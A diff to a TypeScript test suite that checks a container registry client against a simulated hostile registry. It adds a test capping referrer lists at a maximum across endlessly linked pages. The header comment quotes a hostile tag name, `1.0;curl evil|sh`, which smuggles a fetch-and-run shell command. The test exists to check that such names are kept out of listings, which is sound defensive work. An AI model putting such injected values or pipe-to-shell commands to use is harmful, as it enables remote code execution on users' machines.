@@ -1,5 +1,5 @@
-// A hostile registry's listings against the real client: tag and catalog pages that never end
-// (each a fresh Link, no new names), and names no registry may hold (`1.0;curl evil|sh`) that would
+// A hostile registry's listings against the real client: tag, catalog and referrers pages that never
+// end (each a fresh Link, no new names, or thousands of referrers each), and names no registry may hold (`1.0;curl evil|sh`) that would
 // otherwise reach a copied pull command. The listing must end in bounded requests, say it was cut,
 // and leave such names out while saying how many.
 import { strict as assert } from 'node:assert';
@@ -8,6 +8,7 @@ import { rm } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { MAX_PAGES_WITHOUT_NEW_NAMES, type ListingPage } from '../../src/core/registry/listing';
+import { MAX_REFERRERS } from '../../src/core/registry/repository';
 import { createSession, type RegistrySession } from '../../src/core/registry/session';
 import { answerSourceFor } from '../../src/common/registry-answers';
 import { HostileRegistry } from '../support/lab/hostile-registry';
@@ -99,6 +100,38 @@ describe("a hostile registry's listings", function () {
     const pages = await collect(session.registry(server.host).repositoryPages({ pageSize: 1000 }));
     assert.equal(pages.length, MAX_PAGES_WITHOUT_NEW_NAMES);
     assert.match(pages.at(-1)!.cut ?? '', /further pages of the catalog/);
+  });
+
+  it('keeps at most 10,000 referrers of a subject across pages, and says the list was cut', async () => {
+    const index = 'application/vnd.oci.image.index.v1+json';
+    const page = (n: number) =>
+      Buffer.from(
+        JSON.stringify({
+          schemaVersion: 2,
+          mediaType: index,
+          manifests: Array.from({ length: 4000 }, (_, i) => ({
+            mediaType: 'application/vnd.oci.image.manifest.v1+json',
+            digest: `sha256:${(n * 4000 + i).toString(16).padStart(64, '0')}`,
+            size: 1,
+            artifactType: 'a/b',
+          })),
+        }),
+      );
+    server.route({
+      method: 'GET',
+      path: /^\/v2\/many\/referrers\//,
+      answer: (n) => ({
+        headers: { 'content-type': index, link: `</v2/many/referrers/sha256:${'a'.repeat(64)}?page=${n}>; rel="next"` },
+        body: { kind: 'whole', body: page(n) },
+      }),
+    });
+    const result = await session
+      .registry(server.host)
+      .repository('many')
+      .referrers(`sha256:${'a'.repeat(64)}`);
+    assert.equal(result.referrers.length, MAX_REFERRERS);
+    assert.equal(result.cut, true);
+    assert.equal(requests(/\/v2\/many\/referrers\//), 3);
   });
 
   it('leaves out tags and repository names outside the Distribution grammar, and counts them', async () => {
